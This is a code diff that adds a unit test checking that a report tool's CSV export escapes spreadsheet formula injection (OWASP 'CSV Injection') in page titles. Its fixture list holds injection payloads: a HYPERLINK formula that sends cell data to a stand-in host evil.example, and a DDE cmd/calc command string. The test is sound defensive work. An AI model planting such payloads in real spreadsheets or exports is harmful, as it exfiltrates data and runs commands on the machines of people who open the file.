@@ -97,3 +97,15 @@ def test_resolve_minutes_are_the_reports_own_time_to_resolve(tmp_path, run_cli):
     assert "* Time to resolve: 1 h 35 min (" in (tmp_path / "r.wiki").read_text(encoding="utf-8")
     row = report_stats([tmp_path / "r.wiki"]).rows[0]
     assert (row["resolve_minutes"], row["outage_minutes"]) == (95, 55)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    """A wiki page's title is anyone's to choose (`stats --wiki`): the cells
+    starting with = + - @ tab or CR get a leading ' (OWASP "CSV Injection"),
+    numbers stay numbers."""
+    text = (WIKITECH / "sessionstore.wiki").read_text(encoding="utf-8")
+    titles = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+              "\t=1+1", "\r=1+1", "Incidents/2025-03-31 sessionstore"]
+    rows = list(csv.DictReader(io.StringIO(report_stats([(title, text) for title in titles]).to_csv())))
+    assert [row["title"] for row in rows] == ["'" + title for title in titles[:-1]] + [titles[-1]]
+    assert {row["duration_minutes"] for row in rows} == {"38"}
